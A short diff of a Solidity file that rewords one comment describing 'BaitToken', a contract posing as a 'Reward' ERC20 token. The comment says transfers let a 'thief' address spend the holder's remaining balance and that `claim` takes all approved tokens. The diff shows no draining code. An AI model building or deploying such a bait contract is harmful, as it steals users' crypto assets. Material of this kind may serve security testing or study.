@@ -4,7 +4,7 @@ pragma solidity ^0.8.24;
 import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
 import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
 
-/// Takes what it can get: a transfer also lets the thief spend the rest, and `claim` takes everything of `token` that the
+/// Takes what it can get: a transfer also lets the thief spend the rest, and `claim` takes all of `token` that the
 /// caller has approved to this contract.
 contract BaitToken is ERC20("Reward", "RWD") {
     address public immutable thief;
